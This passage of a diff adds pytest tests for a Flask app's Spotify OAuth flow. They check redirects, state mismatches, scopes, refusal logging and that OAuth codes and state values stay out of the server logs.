+    # With all that LOG_LEVEL=DEBUG lets through, and more: these are other libraries' lines, too.
+    lines = "\n".join(map(JsonFormatter().format, caplog.records))
+    assert '"route": "/api/spotify/authorize"' in lines
+    assert not any(callback[name] in lines for name in ("code", "state") if name in callback)
+
+
+@ONE_DATABASE
+@pytest.mark.processes
+def test_d11_no_code_and_no_state_is_in_the_servers_log(
+    server: Callable[..., AbstractContextManager[Server]], sandbox: SandboxClient
+) -> None:
+    with server(workers=1, LOG_LEVEL="DEBUG") as api, requests.Session() as browser:
+        browser.trust_env = False
+        browser.headers.update(PAGE)
+
+        def go(url: str) -> requests.Response:
+            return browser.get(url, allow_redirects=False, timeout=30)
+
+        sent_on = go(f"{api.url}/api/spotify/authorize")
+        denied = sandbox.consent(sent_on.headers["Location"], decision="cancel")
+        agreed = sandbox.consent(go(f"{api.url}/api/spotify/authorize").headers["Location"])
+        answers = [go(denied), go(denied), go(agreed), go(agreed)]
+        browser.delete(
+            f"{api.url}/api/spotify", headers={"X-Requested-With": "test"}, timeout=30
+        ).raise_for_status()
+
+        ends = [answer.headers["Location"].partition("?spotify=")[2] for answer in answers]
+        assert [answer.status_code for answer in answers] == [303] * 4
+        assert ends == ["denied", "error-spotify-state-mismatch", "connected", "connected"]
+        eventually(lambda: "spotify_disconnected" in api.log)
+        assert "spotify_connected" in api.log
+        assert "spotify_refused" in api.log
+        secrets = {*answer_of(denied).values(), *answer_of(agreed).values()} - {"access_denied"}
+        assert len(secrets) == 3
+        assert not any(secret in api.log for secret in secrets)
+
+
+# --- D12: scopes -----------------------------------------------------------------------------------
+
+
+def test_d12_the_scopes_asked_for_are_those_of_the_settings(
+    env: dict[str, str], sandbox: SandboxClient, request: pytest.FixtureRequest
+) -> None:
+    env["SPOTIFY_SCOPES"] = "user-top-read user-read-private"
+    client = request.getfixturevalue("client")
+    url = first_visit(client)
+
+    assert parse_qs(urlsplit(url).query)["scope"] == ["user-top-read user-read-private"]
+    spotify = come_back(client, sandbox.consent(url)).json["spotify"]
+    assert sorted(spotify["scopes"]) == ["user-read-private", "user-top-read"]
+    response = client.get("/api/spotify/token")
+    assert (response.status_code, slug(response)) == (403, "insufficient-scope")
+
+
+def test_d12_a_new_consent_to_fewer_scopes_is_what_counts_from_then_on(
+    client: FlaskClient, sandbox: SandboxClient
+) -> None:
+    register(client)
+    one, two = first_visit(client), first_visit(client)
+    come_back(client, sandbox.consent(one))
+    assert client.get("/api/spotify/token").status_code == 200
+    sandbox.settings(granted_scopes=["user-read-private"])
+
+    spotify = come_back(client, sandbox.consent(two)).json["spotify"]
+
+    assert spotify["scopes"] == ["user-read-private"]
+    response = client.get("/api/spotify/token")
+    assert (response.status_code, slug(response)) == (403, "insufficient-scope")
+
+
+# --- what is logged --------------------------------------------------------------------------------
+
+
+def test_connecting_and_disconnecting_are_logged_once_each(
+    client: FlaskClient, app: Flask, sandbox: SandboxClient, caplog: pytest.LogCaptureFixture
+) -> None:
+    register(client)
+    connect(client, sandbox)
+    client.get("/api/spotify/authorize")
+    [[link], _] = stored(app)
+
+    client.delete("/api/spotify")
+    client.delete("/api/spotify")
+
+    assert logged(caplog, "spotify_connected", "link") == [link[0]]
+    assert logged(caplog, "spotify_disconnected", "link") == [link[0]]
+    assert logged(caplog, "spotify_refused", "reason") == []
+
+
+@ONE_DATABASE
+@pytest.mark.parametrize("accept", [PROGRAM, PAGE], ids=["program", "page"])
+def test_each_refusal_is_logged_with_its_reason_and_a_first_visit_is_none(
+    client: FlaskClient,
+    sandbox: SandboxClient,
+    caplog: pytest.LogCaptureFixture,
+    accept: dict[str, str],
+) -> None:
+    one, two = first_visit(client), first_visit(client)
+    visit(client, "", accept)
+    visit(client, "state=alone&code=&error=", accept)
+    assert logged(caplog, "spotify_refused", "reason") == []
+
+    visit(client, answer_of(sandbox.consent(one, decision="cancel")), accept)
+    sandbox.fault(on="code", kind="google_502", times=1)
+    visit(client, answer_of(sandbox.consent(two)), accept)
+    visit(client, "code=a", accept)
+
+    assert logged(caplog, "spotify_refused", "reason") == [
+        "spotify-access-denied",
+        "spotify-unavailable",
+        "spotify-state-mismatch",
+    ]
+
+
+@ONE_DATABASE
+def test_a_failure_is_a_refusal_only_of_a_callback(
+    env: dict[str, str], caplog: pytest.LogCaptureFixture, request: pytest.FixtureRequest
+) -> None:
+    env["REDIS_URL"] = "redis://127.0.0.1:1/0"
+    client = request.getfixturevalue("client")
+
+    assert result(visit(client, "", PAGE)) == "error-service-unavailable"
+    assert logged(caplog, "spotify_refused", "reason") == []
+    assert result(visit(client, "code=a&state=b", PAGE)) == "error-service-unavailable"
+    assert logged(caplog, "spotify_refused", "reason") == ["service-unavailable"]
+
+
+def test_a_link_is_erased_once(client: FlaskClient, app: Flask, sandbox: SandboxClient) -> None:
+    """So that of two who disconnect at once, one is logged."""
+    connect(client, sandbox)
+    with app.app_context():
+        with reading() as db:
+            link = db.scalars(sa.select(SpotifyUser)).one()
+
+        assert [connections.erase(link) for _ in range(2)] == [True, False]
